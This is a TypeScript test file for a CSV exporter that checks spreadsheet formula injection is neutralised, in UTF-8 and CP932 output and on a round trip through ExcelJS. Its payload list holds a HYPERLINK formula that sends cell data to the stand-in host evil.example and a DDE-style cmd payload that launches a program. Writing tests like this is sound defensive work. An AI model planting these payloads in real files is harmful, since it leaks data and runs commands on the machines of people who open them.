// Issue #11.5: no cell of a CSV Kyodo writes is read by a spreadsheet as a formula.
import assert from 'node:assert/strict'
import { Readable } from 'node:stream'
import { describe, test } from 'node:test'
import ExcelJS from 'exceljs'
import iconv from 'iconv-lite'
import { csvCell, decodeCsv, parseCsv, toCsv } from './csv.ts'

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
]

async function readBack(buf: Buffer) {
  const wb = new ExcelJS.Workbook()
  // ExcelJS's CSV reader, as a spreadsheet would open the file.
  const ws = await wb.csv.read(Readable.from([buf.toString('utf8').replace(/^\uFEFF/, '')]), {
    parserOptions: { delimiter: ',' },
  })
  const cells: ExcelJS.Cell[] = []
  ws.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
  return cells
}

describe('CSV formula injection', () => {
  test('csvCell prefixes text that starts a formula, leaves numbers and plain text', () => {
    for (const p of PAYLOADS) assert.equal(csvCell(p), `'${p}`)
    assert.equal(csvCell(-5), '-5')
    assert.equal(csvCell('むさしの見守り'), 'むさしの見守り')
    assert.equal(csvCell(null), '')
  })

  test('round trip through ExcelJS: no cell is a formula or starts with = + - @ tab CR', async () => {
    const buf = toCsv(['名称', '数'], [...PAYLOADS.map((p) => [p, 1]), ['ふつうの団体', -5]])
    const cells = await readBack(buf)
    for (const cell of cells) {
      assert.notEqual(cell.type, ExcelJS.ValueType.Formula)
      if (typeof cell.value === 'string') assert.doesNotMatch(cell.value, /^[=+\-@\t\r]/, cell.value)
    }
    const texts = cells.map((c) => c.value)
    for (const p of PAYLOADS) assert.ok(texts.includes(`'${p}`), JSON.stringify(p))
    assert.ok(texts.includes(-5), 'numbers stay numbers')
  })

  test('CP932 too, and an exported file imports back unchanged', () => {
    const buf = toCsv(
      ['名称'],
      PAYLOADS.map((p) => [p]),
      'cp932',
    )
    assert.match(iconv.decode(buf, 'cp932'), /'=HYPERLINK/)
    const back = parseCsv(decodeCsv(new Uint8Array(buf)).text)
    assert.deepEqual(
      back.rows.map((r) => r.cells[0]),
      PAYLOADS.map((p) => p.replace(/^\r/, '\r')),
    )
  })
})
